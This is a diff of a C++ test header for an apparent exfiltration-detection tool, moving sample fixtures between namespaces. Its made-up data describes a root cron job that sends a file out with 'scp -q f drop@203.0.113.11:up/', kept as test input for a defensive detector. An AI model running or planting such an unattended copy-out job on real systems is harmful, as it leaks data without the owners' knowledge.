@@ -1,61 +1,17 @@
 #pragma once
 
+#include "../facts/sample.hpp"
 #include "auexfil/audit/stamp.hpp"
 #include "auexfil/coverage/host_coverage.hpp"
+#include "auexfil/facts/fact.hpp"
 #include "auexfil/policy/finding.hpp"
-#include "auexfil/transfer/fact.hpp"
 
 /// Made-up values that the writers' tests share.
 namespace sample {
 
-inline constexpr auexfil::audit::TimeMs kStart = 1'796'173'321'113;  // 2026-12-02T01:02:01.113Z
-inline constexpr auexfil::audit::TimeMs kEnd = kStart + 3'757;
-
-/// DESIGN's example: scp of 3 MB by cron.
-inline auexfil::transfer::Fact fact() {
-  using namespace auexfil::transfer;
-  Fact fact;
-  fact.id = 0x9f0c000000000001;
-  fact.host = "etl-01";
-  fact.start = kStart;
-  fact.end = kEnd;
-  fact.tool = "scp";
-  fact.direction = Direction::out;
-  fact.automation = Verdict::unattended;
-  fact.reasons = {{"cron", "started by cron (pid 311)", auexfil::audit::Stamp{kStart, 512}},
-                  {"no-terminal", "no terminal", {}}};
-  fact.job = Job{"cron", "/bin/sh -c scp -q f drop@203.0.113.11:up/", {}};
-  fact.auid = 0;
-  fact.auid_name = "root";
-  fact.uid = 0;
-  fact.uid_name = "root";
-  fact.ses = 3;
-  fact.process = {811, "/usr/bin/scp", "scp", {"scp", "-q", "f", "drop@203.0.113.11:up/"}};
-  fact.ppid = 810;
-  fact.cwd = "/root";
-  fact.lineage = {{810, "/usr/bin/dash", "sh", {"/bin/sh", "-c", "scp -q f drop@203.0.113.11:up/"}},
-                  {311, "/usr/sbin/cron", "cron", {"/usr/sbin/cron", "-f"}},
-                  {1, "/usr/lib/systemd/systemd", "systemd", {}}};
-  Destination to;
-  to.address = auexfil::audit::IpAddress::v4({203, 0, 113, 11});
-  to.port = 22;
-  to.transport = Transport::tcp;
-  to.direction = Direction::out;
-  to.bytes_out = 3'153'717;
-  to.basis = Basis::measured;
-  to.connections = 1;
-  to.first = kStart;
-  to.last = kEnd;
-  fact.destinations = {to};
-  fact.bytes_out = 3'153'717;
-  fact.basis = Basis::measured;
-  fact.evidence = {{"audit.log.3", 1234, auexfil::audit::Stamp{kStart + 367, 530}, "connect"}};
-  return fact;
-}
-
 /// The same with nothing but an address in argv: the log holds no bytes.
-inline auexfil::transfer::Fact unmeasured_fact() {
-  using namespace auexfil::transfer;
+inline auexfil::facts::Fact unmeasured_fact() {
+  using namespace auexfil::facts;
   Fact fact = sample::fact();
   fact.host = {};
   fact.auid = {};
@@ -92,7 +48,7 @@ inline auexfil::policy::Finding finding() {
   finding.tool = "scp";
   finding.user = "root";
   finding.auid_user = "root";
-  finding.job = auexfil::transfer::Job{"cron", "/bin/sh -c scp -q f drop@203.0.113.11:up/", {}};
+  finding.job = auexfil::facts::Job{"cron", "/bin/sh -c scp -q f drop@203.0.113.11:up/", {}};
   finding.automation = auexfil::transfer::Verdict::unattended;
   finding.command = {"scp", "-q", "f", "drop@203.0.113.11:up/"};
   finding.chain = {"cron", "sh"};
